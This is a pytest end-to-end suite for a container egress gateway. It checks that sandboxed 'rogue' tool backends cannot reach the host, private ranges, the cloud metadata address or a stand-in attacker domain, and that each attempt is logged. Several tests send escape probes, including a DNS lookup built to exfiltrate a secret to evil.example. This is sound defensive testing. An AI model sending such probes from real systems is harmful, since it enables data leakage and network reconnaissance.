"""The story of `scripts/demo`, told to a real gateway with real containers and unmodified servers."""

from __future__ import annotations

import asyncio
import fcntl
import json
import socket
import socketserver
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import docker
import httpx2
import pytest

from examples.demo import stage
from examples.demo.story import SCENES, Scene, client, play, rogue_outcome
from observability import semconv
from registry.model.server import OWN_USERS
from tests.e2e.otlp_receiver import OtlpReceiver
from tests.e2e.stockade_process import StockadeProcess, until

pytestmark = [pytest.mark.docker, pytest.mark.anyio]

DEVELOPER, REVIEWER = "demo-developer", "demo-reviewer"


async def rogue(story: StockadeProcess, tool: str, backend: str = "rogue", **arguments: Any) -> dict[str, Any]:
    """One attempt by one of the rogue backends: its own outcome, and the denials the gateway reported."""
    async with client(story.endpoint, DEVELOPER) as connected:
        shown = await play(connected, Scene(says="", tool=f"{backend}__{tool}", arguments=arguments))
    return {**rogue_outcome(shown), "denials": shown.denials, "text": shown.text, "is_error": shown.is_error}


def host_addresses() -> list[str]:
    """Every IPv4 address of this machine, loopback left out."""

    found = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        for _, name in socket.if_nameindex():
            try:
                answer = fcntl.ioctl(probe, 0x8915, struct.pack("256s", name.encode()))  # SIOCGIFADDR
            except OSError:
                continue
            found.append(socket.inet_ntoa(answer[20:24]))
    return [address for address in found if not address.startswith("127.")]


class Trap:
    """A TCP and a UDP listener on one host port; remembers whether anything came."""

    def __init__(self, address: str = "0.0.0.0", answer: bytes = b"") -> None:
        self.contacts: list[str] = []
        contacts = self.contacts

        class Stream(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                contacts.append(f"tcp {self.client_address[0]}")
                self.request.settimeout(5)
                self.request.recv(1000)
                self.request.sendall(answer)

        class Datagram(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                contacts.append(f"udp {self.client_address[0]}")

        tcp = socketserver.ThreadingTCPServer((address, 0), Stream)
        self.port = tcp.server_address[1]
        udp = socketserver.UDPServer((address, self.port), Datagram)
        self._servers = (tcp, udp)
        for server in self._servers:
            threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        for server in self._servers:
            server.shutdown()
            server.server_close()


@contextmanager
def trap(address: str = "0.0.0.0", answer: bytes = b"") -> Iterator[Trap]:
    made = Trap(address, answer)
    try:
        yield made
    finally:
        made.close()


@pytest.mark.parametrize("scene", SCENES, ids=lambda scene: scene.says)
async def test_each_scene_of_the_demo_goes_as_promised(story: StockadeProcess, scene: Scene) -> None:
    async with client(story.endpoint, DEVELOPER) as connected:
        shown = await play(connected, scene)
    assert shown.as_expected, shown


async def test_the_reference_server_answers_over_streamable_http_inside_its_container(story: StockadeProcess) -> None:
    async with client(story.server_endpoint("everything"), DEVELOPER) as connected:
        result = await connected.call_tool("echo", {"message": "through the door"})
    assert "through the door" in result.content[0].text


async def test_two_clients_see_two_lists_and_what_is_hidden_cannot_be_called(story: StockadeProcess) -> None:
    async with client(story.endpoint, DEVELOPER) as developer, client(story.endpoint, REVIEWER) as reviewer:
        everything = {tool.name for tool in (await developer.list_tools()).tools}
        little = {tool.name for tool in (await reviewer.list_tools()).tools}
        assert little == {"fetch__fetch", "time__get_current_time"}
        assert {"time__convert_time", "rogue__tcp_connect", "everything__echo"} <= everything
        for hidden in ("time__convert_time", "rogue__look_around"):
            with pytest.raises(Exception, match=r"[Uu]nknown tool|not found"):
                await reviewer.call_tool(hidden, {})
    assert "stockade_tools_filtered_total{" in story.metrics()


async def test_a_token_nobody_has_is_refused(story: StockadeProcess) -> None:

    async with httpx2.AsyncClient(trust_env=False) as http:
        answer = await http.post(story.endpoint, headers={"Authorization": "Bearer nobody"}, json={})
    assert answer.status_code == 401
    assert "stockade connect" in answer.text


async def test_a_refusal_is_in_the_tail_the_metrics_and_a_span(story: StockadeProcess, otlp: OtlpReceiver) -> None:
    await rogue(story, "proxy_connect", host="refused.example", port=443)
    event = [e for e in story.json_lines("egress", "tail") if e.get("host") == "refused.example"][-1]
    assert (event["decision"], event["reason"], event["backend"]) == ("deny", "host_not_allowed", "rogue")
    assert event["calls"][0]["tool"] == "proxy_connect"
    line = next(
        x
        for x in story.metrics().splitlines()
        if 'reason="host_not_allowed"' in x and 'backend="rogue"' in x and not x.endswith(" 0")
    )
    assert 'decision="deny"' in line
    span = otlp.wait_for("CONNECT", **{semconv.SERVER_ADDRESS: "refused.example"})
    assert span.attributes[semconv.EGRESS_DECISION] == "deny"
    assert span.attributes[semconv.EGRESS_REASON] == "host_not_allowed"
    assert span.attributes[semconv.BACKEND_NAME] == "rogue"
    call = otlp.wait_for_id(span.links[0][1])
    assert call.attributes[semconv.GEN_AI_TOOL_NAME] == "proxy_connect"


async def test_an_allowed_connection_is_a_span_with_its_rule(story: StockadeProcess, otlp: OtlpReceiver) -> None:
    seen = await rogue(story, "proxy_connect", host="api.github.com", port=443)
    assert seen["outcome"] == "reached"
    span = otlp.wait_for("CONNECT", **{semconv.SERVER_ADDRESS: "api.github.com", semconv.EGRESS_DECISION: "allow"})
    assert span.attributes[semconv.SECURITY_RULE_NAME] == "api.github.com"
    assert "refused.example" not in story.metrics()


async def test_the_proxy_refuses_every_address_of_the_host_private_and_metadata_ones(
    story: StockadeProcess,
) -> None:
    with trap() as listener:
        for address in [*host_addresses(), "127.0.0.1", "10.1.2.3", "192.168.1.1", "169.254.169.254", "[::1]"]:
            seen = await rogue(story, "proxy_connect", host=address.strip("[]"), port=listener.port)
            assert seen["outcome"] == "blocked", (address, seen)
    assert listener.contacts == []


@pytest.mark.parametrize("port", [443, 80, 8080])
async def test_direct_tcp_reaches_nothing(story: StockadeProcess, internet: stage.Internet, port: int) -> None:
    targets = [internet.container_address, internet.address, "198.51.100.9", *host_addresses()]
    for address in targets:
        seen = await rogue(story, "tcp_connect", address=address, port=port)
        assert seen["outcome"] in {"refused", "closed", "cut", "error", "blocked"}, (address, seen)


async def test_direct_attempts_on_the_ports_that_matter_are_seen_with_their_destination(
    story: StockadeProcess,
) -> None:
    await rogue(story, "tcp_connect", address="198.51.100.77", port=80)
    events = [e for e in story.json_lines("egress", "tail") if e.get("destination") == "198.51.100.77:80"]
    assert events
    assert events[0]["reason"] == "direct_attempt"


async def test_nothing_direct_arrives_on_the_host_udp_and_bound_devices_included(story: StockadeProcess) -> None:
    with trap() as listener:
        for address in host_addresses():
            for device in ("", "lo", "eth0"):
                await rogue(story, "udp_send", address=address, port=listener.port, device=device)
            await rogue(story, "tcp_connect", address=address, port=listener.port)
    assert listener.contacts == []


async def test_no_direct_packet_reaches_the_fake_internet(
    story: StockadeProcess, internet: stage.Internet, engine: docker.DockerClient
) -> None:
    before = len(stage.hits(engine, internet.name))
    for address in (internet.container_address, internet.address):
        await rogue(story, "udp_send", address=address, port=53)
        await rogue(story, "tcp_connect", address=address, port=443)
        await rogue(story, "tcp_connect", address=address, port=80)
    assert len(stage.hits(engine, internet.name)) == before


@pytest.mark.parametrize("kind", ["icmp", "packet", "vsock"])
async def test_raw_and_foreign_sockets_are_not_to_be_had(story: StockadeProcess, kind: str) -> None:
    seen = await rogue(story, "raw_socket", kind=kind)
    assert seen["outcome"] == "error", seen
    assert seen["errno"] in {"EPERM", "EAFNOSUPPORT", "EACCES"}


async def test_names_are_not_resolved_and_the_lookup_is_recorded(story: StockadeProcess) -> None:
    seen = await rogue(story, "dns_lookup", name="exfiltrated-secret.evil.example")
    assert seen["outcome"] == "not_found"

    def recorded() -> bool:
        """Told after some seconds: a lookup that a proxied request follows is no attempt."""
        events = story.json_lines("egress", "tail")
        return any(e.get("via") == "dns" and e.get("host") == "exfiltrated-secret.evil.example" for e in events)

    until(recorded, "the lookup in the tail")


async def test_a_backend_sees_lo_and_nothing_else_of_the_world(story: StockadeProcess) -> None:
    seen = await rogue(story, "look_around")
    assert seen["interfaces"] == ["lo"]
    assert int(seen["capabilities"], 16) == 0
    assert seen["uid"] in OWN_USERS
    assert not seen["docker_socket"]
    assert "host.docker.internal" not in seen["hosts"]
    assert seen["environment"]["HTTPS_PROXY"] == "http://127.0.0.1:3128"


async def test_without_a_policy_a_backend_reaches_nothing(story: StockadeProcess) -> None:
    for attempt in ({"host": "api.github.com", "port": 443}, {"host": "evil.example", "port": 443}):
        seen = await rogue(story, "proxy_connect", backend="sealed", **attempt)
        assert seen["outcome"] == "blocked"
        assert "403 empty_policy" in seen["status"]


async def test_a_backend_that_is_not_isolated_says_so_everywhere(
    story: StockadeProcess, internet: stage.Internet
) -> None:
    seen = await rogue(story, "look_around", backend="open")
    assert seen["environment"] == {}
    assert len(seen["interfaces"]) > 1
    listed = story.run("ps").stdout
    assert "not isolated" in listed
    assert "not observed" in listed
    assert f"api.github.com:443 is always reached at {internet.address}" in listed


async def test_a_service_on_the_host_is_reached_only_once_its_port_is_allowed(story: StockadeProcess) -> None:
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"
    with trap(answer=answer) as service, trap(answer=answer) as other:
        url = f"http://host.docker.internal:{service.port}/"
        seen = await rogue(story, "proxy_get", backend="hosted", url=url)
        assert seen["outcome"] == "blocked"
        story.run("egress", "allow", "hosted", f"host.docker.internal:{service.port}", "--yes")
        seen = await rogue(story, "proxy_get", backend="hosted", url=url)
        assert (seen["outcome"], seen.get("body")) == ("reached", "hello")
        seen = await rogue(story, "proxy_get", backend="hosted", url=f"http://host.docker.internal:{other.port}/")
        assert seen["outcome"] == "blocked"
        assert other.contacts == []


async def test_a_host_service_on_loopback_is_refused_with_how_to_bind_it(story: StockadeProcess) -> None:
    with trap("127.0.0.1") as service:
        story.run("egress", "allow", "hosted", f"host.docker.internal:{service.port}", "--yes")
        url = f"http://host.docker.internal:{service.port}/"
        seen = await rogue(story, "proxy_get", backend="hosted", url=url)
    assert "host_loopback_only" in seen["status"]
    assert "0.0.0.0" in seen["body"]
    assert "127.0.0.1" in seen["body"]


async def test_allowing_a_host_takes_effect_without_a_restart_and_keeps_comments(story: StockadeProcess) -> None:
    before = {b["name"]: b["containers"] for b in story.json("ps")["backends"]}
    refused = await rogue(story, "proxy_connect", host="evil.example", port=443)
    assert refused["outcome"] == "blocked"
    assert "ask the user to allow evil.example (server rogue)" in refused["text"]
    story.run("egress", "allow", "rogue", "evil.example", "--yes")
    seen = await rogue(story, "proxy_connect", host="evil.example", port=443)
    assert seen["outcome"] == "reached"
    assert {b["name"]: b["containers"] for b in story.json("ps")["backends"]} == before
    assert "# ours, written to misbehave" in story.config.read_text()


async def test_with_two_calls_in_flight_the_denial_is_only_probable(story: StockadeProcess) -> None:

    async with client(story.endpoint, DEVELOPER) as one, client(story.endpoint, DEVELOPER) as two:
        scene = Scene(says="", tool="everything__echo", arguments={"message": "x"})
        await play(one, scene)
        slow = Scene(says="", tool="fetch__fetch", arguments={"url": "https://one.evil.example/"})
        other = Scene(says="", tool="fetch__fetch", arguments={"url": "https://two.evil.example/"})
        shown = await asyncio.gather(play(one, slow), play(two, other))
    for result in shown:
        for denial in result.denials:
            expected = "Stockade probably blocked" if denial["certainty"] == "probable" else "Stockade blocked"
            assert f"{expected} {denial['host']}" in result.text


async def test_logs_of_a_backend_can_be_read(story: StockadeProcess) -> None:
    assert "Starting Streamable HTTP server" in story.run("logs", "everything").stdout


async def test_the_tail_speaks_in_plain_lines(story: StockadeProcess) -> None:
    await rogue(story, "proxy_connect", host="plain.example", port=443)
    line = next(x for x in story.run("egress", "tail").stdout.splitlines() if "plain.example:443" in x)
    assert "host_not_allowed" in line
    assert "rogue" in line


def test_the_events_are_json_that_a_machine_reads(story: StockadeProcess) -> None:
    for event in story.json_lines("egress", "tail"):
        assert event["kind"] == "egress"
        json.dumps(event)
